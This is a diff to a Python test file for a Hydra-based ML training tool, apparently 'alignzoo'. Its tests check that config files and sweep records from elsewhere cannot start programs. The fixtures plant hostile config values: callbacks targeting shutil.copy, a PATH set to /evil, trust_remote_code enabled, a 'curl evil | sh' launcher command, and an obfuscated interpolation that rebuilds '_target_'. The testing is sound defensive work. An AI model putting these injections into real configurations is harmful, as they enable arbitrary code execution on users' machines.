@@ -13,7 +13,7 @@ from inprocess import Outcome, call
 from omegaconf import OmegaConf, open_dict
 
 from alignzoo.config.compose import compose
-from alignzoo.config.trust import VARIABLE, refuse_foreign_programs, refuse_programs_in_words
+from alignzoo.config.trust import VARIABLE, refuse_foreign_programs, take_words_from
 from alignzoo.runs.record import runnable
 from alignzoo.system.errors import UserError
 
@@ -34,8 +34,30 @@ PLANTED: list[tuple[str, Any, str]] = [
     ("hydra.job_logging.handlers.evil", {"class": "shutil.copy"}, ".class=shutil.copy"),
     ("hydra.job_logging.handlers.evil.stream", "ext://os.environ", "=ext://os.environ"),
     ("hydra.job.env_set.PATH", "/evil", "hydra.job.env_set.PATH=/evil"),
-    ("model.trust_remote_code", True, "model.trust_remote_code=True"),
+    ("model.trust_remote_code", True, "model.trust_remote_code=true"),
+    ("model.trust_remote_code", "${evaluate.enabled}", "model.trust_remote_code=true"),
+    ("judge", {"name": "pairwise_lm", "path": "x", "trust_remote_code": "yes"}, "judge.trust_remote_code=true"),
+    ("reward.model", {"path": "x", "trust_remote_code": 1}, "reward.model.trust_remote_code=true"),
+    ("reward.model", "${oc.create:{trust_remote_code: true}}", "reward.model.trust_remote_code=true"),
+    ("model.attn_implementation", "evil/kernel", "model.attn_implementation=evil/kernel"),
+    ("hydra.callbacks.evil", {"_target_": "alignzoo.system.cache.shutil.copy"}, "=alignzoo.system.cache.shutil.copy"),
+    ("hydra.callbacks.evil", {"_target_": "alignzoo.system.files.remove_whole"}, "=alignzoo.system.files.remove_whole"),
+    ("hydra.callbacks.evil", "${tracker.x}", "hydra.callbacks.evil=${tracker.x}"),
+    ("hydra.callbacks", "${tracker.x}", "hydra.callbacks=${tracker.x}"),
+    ("hydra.callbacks.evil", "${oc.create:{_target_:shutil.copy}}", "hydra.callbacks.evil=${oc.create:"),
+    ("hydra.callbacks.evil._target_", "${tracker.x.name}", "hydra.callbacks.evil._target_=${tracker.x.name}"),
+    ("hydra.job_logging.handlers.evil", "${tracker.x}", "hydra.job_logging.handlers.evil=${tracker.x}"),
+    ("hydra.job_logging.handlers.file.filename", "/evil", "hydra.job_logging.handlers.file.filename=/evil"),
+    ("hydra.searchpath", ["pkg://evil"], "hydra.searchpath=pkg://evil"),
+    (
+        "pipeline",
+        {"name": "x", "stages": {"a": {"method": "sft", "overrides": ["model.trust_remote_code=true"]}}},
+        "pipeline.stages.a.overrides=model.trust_remote_code=true",
+    ),
 ]
+
+#: What interpolations of the above point to.
+ELSEWHERE = {**COPY, "name": "shutil.copy"}
 
 
 @pytest.fixture
@@ -45,7 +67,8 @@ def handed_over(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[st
 
     def write(key: str, value: Any) -> Start:
         cfg = OmegaConf.create(yaml.safe_load(runnable(compose(["model=tiny"]))))
-        OmegaConf.update(cfg, key, value, force_add=True)
+        OmegaConf.update(cfg, "tracker.x", ELSEWHERE, force_add=True)
+        OmegaConf.update(cfg, key, value, force_add=True, merge=False)
         (tmp_path / "run.yaml").write_text(OmegaConf.to_yaml(cfg))
         return lambda *words: call("--config-dir", str(tmp_path), "--config-name", "run", *words)
 
@@ -66,13 +89,14 @@ def test_a_handed_over_file_runs_no_program(
     assert sorted(path.name for path in tmp_path.iterdir()) == ["run.yaml"], "nothing began"
 
 
+@pytest.mark.parametrize("key", ["hydra.sweeper.sampler._target_", "hydra.sweeper.custom_search_space"])
 def test_nor_does_one_that_chooses_a_sweeper_with_parts(
-    handed_over: Callable[[str, Any], Start], tmp_path: Path
+    handed_over: Callable[[str, Any], Start], tmp_path: Path, key: str
 ) -> None:
-    start = handed_over("hydra.sweeper.sampler._target_", "shutil.copy")
+    start = handed_over(key, "shutil.copy")
     text = (tmp_path / "run.yaml").read_text()
     (tmp_path / "run.yaml").write_text(f"defaults: [{{override hydra/sweeper: optuna}}, _self_]\n{text}")
-    assert "hydra.sweeper.sampler._target_=shutil.copy" in start("-m", "method.beta=0.1,0.2").err
+    assert f"{key}=shutil.copy" in start("-m", "method.beta=0.1,0.2").err
 
 
 @pytest.mark.parametrize(
@@ -84,7 +108,7 @@ def test_nor_a_launchers_commands(key: str) -> None:
         OmegaConf.update(cfg, key, ["curl evil | sh"], force_add=True)
     refuse_foreign_programs(cfg, [], None)
     refuse_foreign_programs(cfg, [f"{key}=[other]"], "run.yaml")
-    with pytest.raises(UserError, match=re.escape(f"{key}=['curl evil | sh'] comes from a file (run.yaml)")):
+    with pytest.raises(UserError, match=re.escape(f"{key}=curl evil | sh comes from a file (run.yaml)")):
         refuse_foreign_programs(cfg, ["model=tiny"], "run.yaml")
 
 
@@ -98,6 +122,18 @@ def test_what_is_typed_is_the_users_own(handed_over: Callable[[str, Any], Start]
     start = handed_over("model.trust_remote_code", True)
     assert start("--cfg", "job", "model.trust_remote_code=true").code == 0
     assert start("--cfg", "job", "model.path=true").code == 1, "another key with that value is another word"
+    assert start("--cfg", "job", "model={name: tiny, trust_remote_code: true}").code == 0, "in a mapping"
+
+
+def test_a_part_of_a_word_is_not_a_key(handed_over: Callable[[str, Any], Start]) -> None:
+    start = handed_over("hydra.job.env_set.PATH", ".")
+    assert "hydra.job.env_set.PATH=. comes from a file" in start("--cfg", "job", "method.beta=0.1").err
+
+
+def test_a_runs_pickle_is_not_read(tmp_path: Path) -> None:
+    """Hydra reads what --experimental-rerun names as a pickle, which can hold any program."""
+    done = call("--experimental-rerun", str(tmp_path / "config.pickle"))
+    assert (done.code, "can hold any program" in done.err) == (1, True)
 
 
 def test_who_trusts_the_file_may_say_so(
@@ -131,27 +167,40 @@ def test_an_option_that_was_chosen_may_trust_its_model(tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize(
-    "word",
+    ("words", "named"),
     [
-        "+hydra.callbacks.a._target_=shutil.copy",
-        "+hydra.callbacks.a={_target_:shutil.copy}",
-        "hydra.job.env_set.PATH=/evil",
-        "hydra.job_logging.handlers.a.class=shutil.copy",
-        "model.trust_remote_code=true",
-        "reward.model.trust_remote_code=TRUE",
+        (["+hydra.callbacks.a._target_=shutil.copy"], "hydra.callbacks.a._target_=shutil.copy"),
+        (["+hydra.callbacks.a={_target_:shutil.copy}"], "hydra.callbacks.a._target_=shutil.copy"),
+        (["+hydra.job.env_set.PATH=/evil"], "hydra.job.env_set.PATH=/evil"),
+        (["+hydra.job={env_set:{PATH:/evil}}"], "hydra.job.env_set.PATH=/evil"),
+        (["+hydra.job_logging.handlers.a.class=shutil.copy"], "hydra.job_logging.handlers.a.class=shutil.copy"),
+        (["model.trust_remote_code=true"], "model.trust_remote_code=true"),
+        (["reward=model", "reward.model.path=x", "reward.model.trust_remote_code=TRUE"], "reward.model.trust_"),
+        (["reward=model", "reward.model={path:x,trust_remote_code:true}"], "reward.model.trust_remote_code=true"),
+        (["hydra/sweeper=optuna", "hydra.sweeper.custom_search_space=shutil.copy"], "custom_search_space=shutil.copy"),
+        (
+            [
+                *("+tracker.a=_targ", "+tracker.b=et_", "+hydra.callbacks.evil=${tracker.x}"),
+                """+tracker.x='${oc.create:${oc.decode:"{${tracker.a}${tracker.b}: shutil.copy}"}}'""",
+            ],
+            "hydra.callbacks.evil=${tracker.x}",
+        ),
     ],
+    ids=lambda value: str(value)[:60],
 )
-def test_words_of_a_foreign_sweep_run_no_program(tmp_path: Path, word: str) -> None:
-    hydra = {"overrides": {"task": [word, "model=tiny"], "hydra": []}}
+def test_words_of_a_foreign_sweep_run_no_program(tmp_path: Path, words: list[str], named: str) -> None:
+    hydra = {"overrides": {"task": [*words, "model=tiny"], "hydra": []}}
     hydra["sweeper"] = {"_target_": "hydra._internal.core_plugins.basic_sweeper.BasicSweeper"}
     (tmp_path / "multirun.yaml").write_text(yaml.safe_dump({"hydra": hydra}))
     done = call("sweep", "resume", str(tmp_path))
     assert done.code == 1
-    assert f"{word} comes from {tmp_path / 'multirun.yaml'} and would run a program." in done.err
+    assert named in done.err
+    assert f"comes from a file ({tmp_path / 'multirun.yaml'}) and would run a program." in done.err, done.err
 
 
 def test_other_words_of_a_sweep_are_taken() -> None:
-    refuse_programs_in_words(["model=tiny", "model.trust_remote_code=false", "method.beta=0.1,0.2"], "file")
+    with take_words_from("multirun.yaml"):
+        compose(["model=tiny", "model.trust_remote_code=false", "method.beta=0.1"])
 
 
 def test_a_foreign_run_that_trusted_its_model_is_not_evaluated(tmp_path: Path) -> None:
@@ -168,5 +217,5 @@ def test_a_foreign_run_that_trusted_its_model_is_not_evaluated(tmp_path: Path) -
 
 def test_an_unknown_word_of_trust_is_not_one(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv(VARIABLE, "no")
-    with pytest.raises(UserError):
-        refuse_programs_in_words(["model.trust_remote_code=true"], "file")
+    with take_words_from("file"), pytest.raises(UserError):
+        compose(["model.trust_remote_code=true"])
